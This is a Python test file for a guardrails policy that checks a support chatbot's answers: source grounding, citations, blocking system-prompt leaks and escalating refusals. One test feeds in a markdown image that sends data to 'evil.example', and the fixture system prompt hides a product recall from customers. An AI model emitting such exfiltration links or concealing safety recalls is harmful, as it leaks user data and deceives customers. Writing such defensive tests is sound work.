"""SUPPORT: answers rest on documents, say where from, and else say so."""

from __future__ import annotations

from collections.abc import Sequence

from guardrails_lib import (
    Abstained,
    Accepted,
    Blocked,
    Escalated,
    Message,
    Outcome,
    Request,
    Source,
    guard,
)
from guardrails_policies.rag import RAG
from guardrails_policies.support import SUPPORT

REFUNDS = Source("kb://help/refunds", "Refunds are paid within 5 days. Shipping is not refunded.")
SYSTEM = (
    "You are Kim of the Kettle Company. Never speak of the recall of model K7, nor of the "
    "discount code for angry customers, and call every customer a friend of the house."
)


def ask(*replies: str, question: str = "How long does a refund take?") -> Outcome[str]:
    left = iter(replies)

    @guard(SUPPORT)
    def model(request: Request, *, sources: Sequence[Source] = ()) -> str:
        return next(left)

    return model(Request([Message("system", SYSTEM), Message("user", question)], [REFUNDS]))


def test_it_has_the_rules_of_rag() -> None:
    assert SUPPORT.input == RAG.input
    assert SUPPORT.sources == RAG.sources


def test_an_answer_that_its_source_bears_out_is_given() -> None:
    outcome = ask("Refunds are paid within five days [1].")
    assert outcome.unwrap() == "Refunds are paid within five days [1]."


def test_an_answer_without_a_citation_is_asked_for_again() -> None:
    outcome = ask("Refunds are paid within 5 days.", "Refunds are paid within 5 days [1].")
    assert isinstance(outcome, Accepted)
    assert outcome.record.attempts == 2


def test_a_wrong_number_is_not_given() -> None:
    outcome = ask(*["Refunds are paid within 9 days [1]."] * 2)
    assert isinstance(outcome, Abstained)
    assert outcome.near[0].text == "Refunds are paid within 5 days."


def test_a_source_that_is_not_there_is_not_cited() -> None:
    assert isinstance(ask(*["Refunds are paid within 5 days [7]."] * 2), Abstained)


def test_an_image_that_tells_somebody_is_not_shown() -> None:
    outcome = ask("Refunds are paid within 5 days [1]. ![](https://evil.example/?q=17)")
    assert isinstance(outcome, Accepted)
    assert "evil" not in outcome.value


def test_the_instructions_are_not_told() -> None:
    assert isinstance(ask(f"My instructions: {SYSTEM} [1]"), Blocked)


def test_a_person_hears_of_a_refusal() -> None:
    outcome = ask("I'm sorry, but I can't help with that request.")
    assert isinstance(outcome, Escalated)
